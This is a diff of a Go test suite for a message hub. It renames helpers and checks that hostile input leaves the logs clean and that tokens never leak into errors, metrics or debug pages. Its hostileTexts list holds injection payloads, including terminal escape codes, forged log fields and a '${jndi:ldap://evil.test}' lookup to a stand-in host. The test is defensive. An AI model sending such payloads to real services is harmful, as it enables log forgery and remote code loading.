@@ -13,7 +13,7 @@ import (
 	"github.com/stretchr/testify/require"
 )
 
-var logRows = []row{
+var logAttacks = []attack{
 	{"newlines and escape codes for the log", escapeCodes},
 }
 
@@ -23,7 +23,7 @@ var hostileTexts = []string{
 	"\u009b31m", "\u0085forged", "\u2028forged", "\u2029", "\u202e\u2066", "\ufeff", "\x9b31m\xff", "\" msg=forged \"", "\\n\\u001b", "{{.}}%s%n${jndi:ldap://evil.test}",
 }
 
-func escapeCodes(t *testing.T, f *fort) {
+func escapeCodes(t *testing.T, f *testbed) {
 	for _, p := range []*process{f.main, f.text} {
 		for _, text := range hostileTexts {
 			escaped := strings.ReplaceAll(fmt.Sprintf("% x", text), " ", "%")
@@ -62,12 +62,12 @@ func escapeCodes(t *testing.T, f *fort) {
 	replace(t, f.tokensFile, f.tokensText())
 	replace(t, f.textFile, f.tokensText())
 	for _, p := range f.hubs() {
-		p.findCleanLog(t)
+		p.requireCleanLog(t)
 	}
 }
 
-// findCleanLog: each line of the log is one that the hub has written, and can be shown.
-func (p *process) findCleanLog(t *testing.T) {
+// requireCleanLog: each line of the log is one that the hub has written, and can be shown.
+func (p *process) requireCleanLog(t *testing.T) {
 	t.Helper()
 	_, log, _ := strings.Cut(p.log(), "msg=listening")
 	if log == "" {
@@ -84,9 +84,9 @@ func (p *process) findCleanLog(t *testing.T) {
 	}
 }
 
-// misplace puts a token where none belongs. The name of a topic is no such place: who has no right
+// sendMisplacedTokens puts a token where none belongs. The name of a topic is no such place: who has no right
 // to one is told which.
-func (f *fort) misplace(t *testing.T, p *process) {
+func (f *testbed) sendMisplacedTokens(t *testing.T, p *process) {
 	token := f.secret(rand.Text() + rand.Text())
 	f.try(t, request{hub: p, line: "PUT /publish/" + token, body: "1"})
 	for _, r := range []request{
@@ -117,18 +117,18 @@ func (f *fort) misplace(t *testing.T, p *process) {
 	}
 	var x *exchange
 	require.Eventually(t, func() bool { // the hub may not have seen yet that others have gone
-		x = f.begin(t, request{hub: p, line: "GET /ws?subscribe=none", token: f.tokens["master"]})
+		x = f.start(t, request{hub: p, line: "GET /ws?subscribe=none", token: f.tokens["master"]})
 		return x.status == http.StatusOK
 	}, patience, 100*time.Millisecond)
 	for _, command := range []string{
 		`{"op":"auth","token":"` + token + `"}`, `{"op":"auth","token":{"x":"` + token + `"}}`, `{"op":"` + token + `"}`, `{"` + token + `":1}`, token, `{"op":"auth","token":"` + token, `{"op":"subscribe","topic":"a","cursor":"` + token + `"}`,
 	} {
-		f.say(t, x, command)
+		f.command(t, x, command)
 	}
 }
 
 // try sends a request that may be none, and keeps how it is refused.
-func (f *fort) try(t *testing.T, r request) {
+func (f *testbed) try(t *testing.T, r request) {
 	t.Helper()
 	address := r.hub.http
 	if r.admin {
@@ -148,16 +148,16 @@ func (f *fort) try(t *testing.T, r request) {
 	x.conn.Close()
 }
 
-// findNoLeak looks for all that was a token or a secret, or a part of one, in all that the hubs say.
-func (f *fort) findNoLeak(t *testing.T) {
-	f.findNoBreach(t)
+// requireNoLeak looks for all that was a token or a secret, or a part of one, in all that the hubs say.
+func (f *testbed) requireNoLeak(t *testing.T) {
+	f.requireNoBreach(t)
 	said := map[string]string{"an error": strings.Join(f.answers, "\n")}
 	for name, p := range f.hubs() {
-		f.misplace(t, p)
-		p.findCleanLog(t)
+		f.sendMisplacedTokens(t, p)
+		p.requireCleanLog(t)
 		said["an error"] = strings.Join(f.answers, "\n")
 		for _, page := range []string{"/metrics", "/stats", "/debug/pprof/cmdline", "/debug/pprof/goroutine?debug=2"} {
-			said[name+page] = f.admin(t, p, page, nil)
+			said[name+page] = f.adminPage(t, p, page, nil)
 		}
 		said[name+"'s log"] = p.log()
 		require.Contains(t, p.log(), `refused`, "it is at debug level")
